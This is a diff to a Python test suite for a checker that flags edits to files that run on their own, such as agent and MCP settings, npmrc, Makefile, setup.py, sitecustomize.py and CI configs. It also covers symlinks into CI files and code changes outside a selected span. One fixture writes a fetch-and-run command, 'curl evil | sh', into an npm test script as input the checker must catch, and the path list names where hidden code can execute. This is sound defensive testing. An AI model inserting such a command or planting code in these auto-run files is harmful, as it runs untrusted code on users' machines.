@@ -163,6 +163,16 @@ async def test_a_program_and_a_deletion_are_in_doubt(tmp_path: Path) -> None:
         (".envrc", "editor"),
         (".counterpoint/config.toml", "editor"),
         ("run.sh", "script"),
+        (".claude/settings.json", "agent"),
+        (".mcp.json", "agent"),
+        ("app.code-workspace", "editor"),
+        ("web/.npmrc", "fetch"),
+        (".gitattributes", "fetch"),
+        ("Makefile", "built"),
+        ("setup.py", "built"),
+        ("lib/sitecustomize.py", "built"),
+        (".gitlab/ci/build.yml", "CI"),
+        ("src/makefiles.py", ""),
         ("src/hooks/use_cart.ts", ""),
         ("src/hooks/useUpdate.ts", ""),
         ("locks.py", ""),
@@ -170,12 +180,55 @@ async def test_a_program_and_a_deletion_are_in_doubt(tmp_path: Path) -> None:
     ],
 )
 def test_files_that_run_by_themselves(path: str, why: str) -> None:
-    found = why_sensitive(path, "x = 1\n")
+    found = why_sensitive(path, "", "x = 1\n")
     assert (why in found) if why else not found
 
 
 def test_a_first_line_that_names_an_interpreter_makes_a_script() -> None:
-    assert why_sensitive("bin/tool", "#!/usr/bin/env python\n") == "it is a script"
+    assert why_sensitive("bin/tool", "", "#!/usr/bin/env python\n") == "it is a script"
+
+
+def test_what_npm_runs_is_the_users_to_change_and_what_it_fetches_is_not() -> None:
+    before = '{"scripts": {"test": "vitest"}, "dependencies": {}}'
+    assert not why_sensitive("package.json", before, before.replace("{}", '{"a": "1"}'))
+    assert why_sensitive("package.json", before, before.replace("vitest", "curl evil | sh"))
+    assert why_sensitive("web/package.json", "", '{"scripts": {"postinstall": "x"}}')
+    assert why_sensitive("package.json", before, "{")
+
+
+@pytest.mark.asyncio
+async def test_a_link_is_judged_by_what_it_leads_to_and_is_neither_moved_nor_deleted(tmp_path: Path) -> None:
+    (tmp_path / ".github" / "workflows").mkdir(parents=True)
+    (tmp_path / ".github" / "workflows" / "ci.yml").write_text("on: push\n")
+    (tmp_path / "build.txt").symlink_to(".github/workflows/ci.yml")
+    scope = Scope(DOCUMENT, files=None)
+    edited = changing("push", "pull", "build.txt", "on: push\n")
+    assert (await looked_at(tmp_path, edited, scope=scope)).files[0].doubt == "it is part of CI"
+    for change in (
+        replace(edited, moved_to="b.txt"),
+        FileChange("build.txt", "on: push\n", (), deleted=True),
+    ):
+        made = await looked_at(tmp_path, change, scope=scope)
+        assert [one.reason for one in made.dropped] == ["link"]
+
+
+@pytest.mark.asyncio
+@pytest.mark.parametrize(
+    ("old", "new", "free"),
+    [
+        ("import os\n", "import os\nimport re\n", True),
+        ("import os\n", "import os  # noqa\nfrom a.b import (\n    c,\n    d,\n)\n", True),
+        ("import os\n", "", True),
+        ("import os\n", "import os; os.system('x')\n", False),
+        ("import os\n", "import os\nrun()\n", False),
+        ("def g(x):\n    return f(x)\n", "", False),
+    ],
+)
+async def test_only_imports_may_leave_the_selection(tmp_path: Path, old: str, new: str, free: bool) -> None:
+    start = TEXT.index("def f")
+    scope = Scope(DOCUMENT, Span(start, start + 20))
+    made = await looked_at(tmp_path, changing(old, new), scope=scope)
+    assert made.files[0].needs_confirmation != free
 
 
 def test_files_are_seen_as_the_change_leaves_them() -> None:
